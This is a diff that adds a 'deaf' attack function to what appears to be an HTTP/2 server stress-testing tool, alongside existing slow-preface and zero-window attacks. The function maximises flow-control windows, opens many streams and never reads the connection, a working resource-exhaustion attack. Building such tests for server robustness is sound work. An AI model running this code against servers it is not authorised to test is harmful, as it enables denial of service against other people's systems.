@@ -279,6 +279,16 @@ def zero_window(raw, options):
 
 
 @attack
+def deaf(raw, options):
+    """Asks for bodies, opens every window for them, and does not read the connection."""
+    raw.hello((INITIAL_WINDOW_SIZE, (1 << 31) - 1))
+    raw.send(frame(WINDOW_UPDATE, 0, 0, ((1 << 31) - (1 << 16)).to_bytes(4, "big")))
+    for number in range(options.streams):
+        raw.stream.sendall(request(options, 2 * number + 1))
+    time.sleep(max(0, raw.start + options.deadline - time.monotonic()))
+
+
+@attack
 def slow_preface(raw, options):
     """The preface, a byte every 100 ms."""
     for byte in PREFACE + settings() + request(options, 1):
